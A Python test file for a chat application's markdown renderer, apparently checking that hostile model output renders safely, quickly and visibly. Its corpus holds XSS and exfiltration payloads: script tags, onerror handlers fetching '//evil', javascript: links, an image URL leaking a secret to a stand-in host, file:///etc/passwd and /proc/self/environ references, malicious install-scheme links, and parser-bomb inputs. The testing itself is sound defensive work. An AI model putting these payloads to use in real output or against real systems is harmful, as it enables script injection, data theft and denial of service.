"""Hostile model output: nothing executes, nothing loads, nothing hangs, the text survives.

Each input is rendered in-process and must finish well under a second on a loaded 2-core
machine: these are correctness limits (no quadratic or catastrophic path), not benchmarks.
"""

from __future__ import annotations

import time

import pytest

from chatdesk.core.render import render_markdown
from tests.core.render.html_checks import assert_safe, visible_text

TIME_LIMIT = 1.0

# (id, text, a piece of the text the user must still see; None when it is too big to check)
CORPUS: list[tuple[str, str, str | None]] = [
    ("script", "<script>alert(document.cookie)</script>", "<script>alert(document.cookie)"),
    ("img onerror", "<img src=x onerror=\"fetch('//evil')\">", "onerror="),
    ("a javascript", '<a href="javascript:alert(1)">click</a>', "javascript:alert(1)"),
    ("md javascript", "[click](javascript:alert(1))", "click"),
    ("md JaVaScRiPt", "[click](JaVaScRiPt:alert(1))", "click"),
    ("md file", "[passwd](file:///etc/passwd)", "passwd"),
    ("image dev zero", "![x](/dev/zero)", "[image: x]"),
    ("image proc environ", "![env](/proc/self/environ)", "[image: env]"),
    ("image exfiltration", "![x](http://evil/p.png?q=secret)", "[image: x — from evil]"),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe"),
    ("style", "<style>body { background: url(http://evil/x) }</style>", "<style>"),
    ("link stylesheet", '<link rel=stylesheet href="http://evil/x.css">', "<link rel=stylesheet"),
    ("object", '<object data="file:///etc/passwd"></object>', "<object"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil">', "<meta"),
    ("data url link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "x"),
    ("data url image", "![pic](data:image/png;base64,iVBORw0KGgo=)", "pic"),
    ("custom scheme", '<a href="cherrystudio://mcp/install?x=1">install</a>', "cherrystudio://"),
    ("md custom scheme", "[install](cherrystudio://mcp/install?servers=evil)", "install"),
    ("reference to file", "[docs][1]\n\n[1]: file:///etc/passwd", "docs"),
    ("autolink file", "<file:///etc/passwd>", "file:///etc/passwd"),
    ("autolink javascript", "<javascript:alert(1)>", "javascript:alert(1)"),
    ("entities to tags", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;", "<script>"),
    ("numeric entity link", "[x](&#106;avascript:alert(1))", "x"),
    ("bidi in link", "[\u202etxt.exe](https://evil.example/a)", "txt.exe"),
    ("scheme-relative", "[x](//evil.example/path)", "x"),
    ("svg", '<svg onload="alert(1)"><circle/></svg>', "<svg"),
    ("form", '<form action="http://evil"><input name=p></form>', "<form"),
    ("html comment", "<!-- <script>alert(1)</script> -->", "<!--"),
    ("math with html", "$<script>alert(1)</script>$", None),
    ("code with html", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ("table with html", "| a |\n|---|\n| <img src=x onerror=y> |", "<img src=x onerror=y>"),
    ("emphasis bomb", "*a **b ***c " * 3_000, "a"),
    ("underscore bomb", "_" * 20_000, None),
    ("brackets", "[" * 10_000, "[[["),
    ("nested brackets", "[" * 5_000 + "a" + "]" * 5_000 + "(http://x)", "a"),
    ("image brackets", "![" * 10_000, "!["),
    ("link openers", "[a](" * 10_000, "[a]("),
    ("backticks", "`" * 3_000 + "a" + "``" * 3_000, "a"),
    ("deep quotes", ">" * 5_000 + " deep", "deep"),
    ("deep quote lines", "\n".join(">" * depth + " x" for depth in range(1, 5_000, 50)), "x"),
    ("deep lists", "\n".join("  " * depth + "- x" for depth in range(5_000)), "x"),
    ("list markers", "- " * 5_000 + "x", "x"),
    ("3 MB line", "a" * 3_000_000, None),
    ("100 KB code", "```python\n" + "x = [1, 2, 3]\n" * 7_500 + "```", "x = [1, 2, 3]"),
    ("unterminated fence", "```python\ndef f():\n    pass\n\nmore text", "more text"),
    ("unterminated math", "$$\n\\frac{a}{b}\n\nno end", "no end"),
    ("dollar openers", "$a \\$" * 20_000, None),
    ("bracket math openers", "\\( a " * 20_000, None),
    ("display math lines", "$$ x\n# h\n" * 10_000, "h"),
    ("many tables", "| a | b |\n|---|---|\n| 1 | 2 |\n\n" * 2_000, "1"),
    ("wide table", "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "x|" * 2_000, "x"),
    ("many links", "[l](http://example.com/x) " * 5_000, "l"),
    ("nul bytes", "a\0b\0<script>", "<script>"),
]


@pytest.mark.parametrize(("text", "shown"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_hostile_input_is_safe_fast_and_visible(text: str, shown: str | None) -> None:
    started = time.perf_counter()
    rendered = render_markdown(text)
    elapsed = time.perf_counter() - started
    assert_safe(rendered)
    assert elapsed < TIME_LIMIT, f"took {elapsed:.2f} s"
    if shown is not None:
        assert shown in visible_text(rendered.html)


def test_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 30
